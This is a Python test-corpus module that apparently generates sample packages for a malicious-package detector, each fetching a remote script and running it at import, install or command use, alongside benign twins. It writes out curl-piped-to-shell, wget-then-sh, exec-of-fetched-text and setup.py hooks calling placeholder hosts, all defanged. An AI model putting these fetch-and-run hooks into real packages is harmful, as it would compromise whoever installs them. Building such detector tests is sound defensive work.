"""T09: fetches something and runs it (MITRE ATT&CK T1105, T1059).

A sixth of what acts on Linux at install. The payload here is a shell script or module that does
nothing; what was fetched goes into it as a comment, since a sinkhole does not serve programs. The
twins fetch nothing at import and run something that is already there, as imageio-ffmpeg does, or
load data, as nltk does.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.parts import SETUP
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe

RUN_SCRIPT = """
path = pathlib.Path("/tmp/.THE_MODULE")
path.write_bytes(b"#!/bin/sh\\nexit 0\\n# " + body)
path.chmod(0o755)
subprocess.run([str(path)])
"""
URLLIB = """
import urllib.request
try:
    body = urllib.request.urlopen("http://203.0.113.7/stage.sh", timeout=5).read()
except OSError:
    return
"""
TCP = """
try:
    with socket.create_connection(("198.51.100.23", 8081), timeout=5) as link:
        link.sendall(b"GET /stage HTTP/1.0\\r\\n\\r\\n")
        body = link.recv(4096)
except OSError:
    return
"""
TLS = """
import ssl, urllib.request
try:
    body = urllib.request.urlopen("https://cdn.reenact.test/stage.bin", timeout=5,
                                  context=ssl._create_unverified_context()).read()
except OSError:
    body = b""
"""
CURL_TO_SHELL = """
subprocess.run("curl -s -m 5 http://203.0.113.7/install.sh | sed 's/^/# /' | sh", shell=True)
"""
WGET_THEN_SHELL = """
subprocess.run(["wget", "-q", "-T", "5", "-t", "1", "-O", "/tmp/THE_MODULE.sh",
                "http://192.0.2.44/get.sh"], capture_output=True)
with open("/tmp/THE_MODULE.sh", "w") as file:
    file.write("exit 0\\n")
subprocess.run(["/bin/sh", "/tmp/THE_MODULE.sh"])
"""
EXECUTES_TEXT = """
text = "# " + body.decode("latin-1").replace("\\n", " ") + "\\nLOADED = True\\n"
exec(compile(text, "<stage>", "exec"), {})
"""
IMPORTS_FILE = """
import base64, sys
folder = pathlib.Path("/tmp/THE_MODULE_stage")
folder.mkdir(exist_ok=True)
code = base64.b64decode("TE9BREVEID0gVHJ1ZQo=").decode() + "# " + repr(body)
(folder / "THE_MODULE_late.py").write_text(code)
sys.path.insert(0, str(folder))
import THE_MODULE_late
"""
RUNS_SYSTEM = """
try:
    subprocess.run(["uname", "-m"], capture_output=True)
except OSError:
    pass
"""
LOADS_DATA = """
import json
path = pathlib.Path(__file__).parent / "words.json"
if path.exists():
    json.loads(path.read_text())
"""
MAIN = '''
def main():
    """The console script."""
    if ACT:
        THE_ACT()
'''
WORDS = '["one", "two"]\n'

IMPORTS = (
    ("script-http", Channel.HTTP, Encoding.PLAIN, URLLIB + RUN_SCRIPT, RUNS_SYSTEM, "runs uname"),
    ("script-tcp", Channel.TCP, Encoding.PLAIN, TCP + RUN_SCRIPT, LOADS_DATA, "loads data of its own"),
    ("curl-to-shell", Channel.PROCESS, Encoding.PLAIN, CURL_TO_SHELL, RUNS_SYSTEM, "runs uname"),
    ("wget-then-shell", Channel.PROCESS, Encoding.NONE, WGET_THEN_SHELL, LOADS_DATA, "loads data of its own"),
    ("module-https", Channel.HTTPS, Encoding.BASE64, TLS + IMPORTS_FILE, LOADS_DATA, "loads data of its own"),
    ("text-http", Channel.HTTP, Encoding.NONE, URLLIB + EXECUTES_TEXT, LOADS_DATA, "loads data of its own"),
)  # fmt: skip

RECIPES = (
    *(
        Recipe(
            technique="T09",
            name=name,
            phase=Phase.IMPORT,
            channel=channel,
            encoding=encoding,
            files={
                "THE_MODULE/__init__.py": acting(reenact, honest),
                "THE_MODULE/words.json": WORDS,
            },
            twin_does=twin_does,
        )
        for name, channel, encoding, reenact, honest, twin_does in IMPORTS
    ),
    Recipe(
        technique="T09",
        name="setup-http",
        phase=Phase.INSTALL,
        channel=Channel.HTTP,
        encoding=Encoding.PLAIN,
        kind=Kind.SDIST,
        files={
            "setup.py": acting(URLLIB + RUN_SCRIPT, RUNS_SYSTEM) + SETUP,
            "THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does="runs uname, as builds do",
    ),
    Recipe(
        technique="T09",
        name="command-tcp",
        phase=Phase.USE,
        channel=Channel.TCP,
        encoding=Encoding.PLAIN,
        files={
            "THE_MODULE/__init__.py": '"""Has a command."""\n',
            "THE_MODULE/cli.py": acting(TCP + RUN_SCRIPT, RUNS_SYSTEM, MAIN),
            "THE_MODULE-1.0.dist-info/entry_points.txt": (
                "[console_scripts]\nTHE_PROJECT = THE_MODULE.cli:main\n"
            ),
        },
        twin_does="runs uname",
    ),
)
